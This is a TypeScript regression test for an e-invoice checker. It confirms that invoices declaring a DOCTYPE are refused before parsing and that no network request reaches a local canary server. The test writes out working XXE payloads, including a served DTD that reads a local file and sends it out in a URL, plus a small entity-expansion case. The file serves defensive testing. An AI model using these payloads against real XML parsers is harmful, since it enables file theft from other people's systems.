/**
 * Issue 41, case 1: `imprint check --einvoice` is what a receiver runs on invoices from
 * strangers, so an invoice that declares a DOCTYPE (an external DTD, external entities: the way
 * XXE reads a local file and sends it out) is refused before any validator parses it, and
 * nothing is fetched. A canary HTTP server on 127.0.0.1 records every request; before the fix
 * Saxon fetched the DTD from it and sent it a local file's contents, and the check said "Valid".
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { EXAMPLES, runCli, tempDir } from '../helpers/cli.js';

const work = tempDir('imprint-xxe-');
const secret = path.join(work, 'secret.txt');
const requests: string[] = [];
let canary: http.Server;
let canaryUrl: string;
let invoice: string;

const cli = (args: string[], stdin?: string) => runCli([...args, '--data-dir', path.join(work, 'data')], { timeoutMs: 240_000, cwd: work, stdin });

before(async () => {
  fs.writeFileSync(secret, 'the-secret-canary-value');
  canary = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    // The attacker's DTD: read the local file, send it back in a URL.
    res.writeHead(200, { 'content-type': 'application/xml-dtd' }).end(`<!ENTITY % file SYSTEM "file://${secret}"><!ENTITY % send "<!ENTITY leak SYSTEM '${canaryUrl}/leak?%file;'>">%send;`);
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const made = await cli(['einvoice', path.join(EXAMPLES, 'invoice', 'Invoice.tsx'), '--props', path.join(EXAMPLES, 'invoice', 'props.json')]);
  assert.equal(made.code, 0, made.describe());
  invoice = made.stdout.toString();
});

after(() => {
  canary.close();
  fs.rmSync(work, { recursive: true, force: true });
});

/** The invoice with a DOCTYPE after its XML declaration. */
function withDoctype(doctype: string): string {
  const declaration = /^<\?xml[^>]*\?>\s*/.exec(invoice)?.[0] ?? '';
  return `${declaration}${doctype}\n${invoice.slice(declaration.length)}`;
}

const cases: [string, () => string][] = [
  ['an external DTD that reads a local file and sends it out', () => withDoctype(`<!DOCTYPE rsm:CrossIndustryInvoice SYSTEM "${canaryUrl}/evil.dtd">`)],
  ['an external parameter entity', () => withDoctype(`<!DOCTYPE x [<!ENTITY % remote SYSTEM "${canaryUrl}/evil.dtd"> %remote;]>`)],
  ['an external general entity used in a note', () => withDoctype(`<!DOCTYPE x [<!ENTITY local SYSTEM "file://${secret}">]>`).replace('</rsm:ExchangedDocument>', '<ram:IncludedNote><ram:Content>&local;</ram:Content></ram:IncludedNote></rsm:ExchangedDocument>')],
  ['an internal DTD only (entity expansion)', () => withDoctype('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>')],
];

for (const [what, xml] of cases) {
  test(`check --einvoice refuses a DOCTYPE (${what}): exit 1, why and what to do, nothing fetched`, async () => {
    const before = requests.length;
    const checked = await cli(['check', '--einvoice', '-'], xml());
    assert.equal(checked.code, 1, checked.describe());
    assert.match(checked.stderr, /declares a DOCTYPE/, checked.describe());
    assert.doesNotMatch(checked.stdout.toString() + checked.stderr, /✔|Valid\b/);
    assert.deepEqual(requests.slice(before), [], 'no request reached the canary');
  });
}

test('the same invoice without a DOCTYPE passes, with a comment and a processing instruction before its root', async () => {
  const declaration = /^<\?xml[^>]*\?>\s*/.exec(invoice)?.[0] ?? '';
  const checked = await cli(['check', '--einvoice', '-'], `${declaration}<!-- from the ERP --><?erp batch="7"?>\n${invoice.slice(declaration.length)}`);
  assert.equal(checked.code, 0, checked.describe());
});
